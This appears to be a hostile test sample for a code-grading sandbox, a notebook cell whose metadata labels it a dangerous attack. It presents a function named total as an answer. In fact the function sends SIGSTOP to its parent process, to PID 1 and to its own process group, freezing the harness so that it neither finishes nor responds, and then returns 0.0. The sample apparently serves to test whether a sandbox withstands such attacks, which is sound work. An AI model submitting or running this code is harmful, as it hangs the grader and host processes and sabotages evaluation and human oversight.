# ---
# jupyter:
#   attack:
#     tries: Stops its parents instead of killing them, so that they neither die nor answer.
#     dangerous: true
# ---

# %% answer="total"
def total(x):
    import os
    import signal

    for pid in {os.getppid(), 1} - {0}:
        try:
            os.kill(pid, signal.SIGSTOP)
        except OSError:
            pass
    os.kill(0, signal.SIGSTOP)
    return 0.0
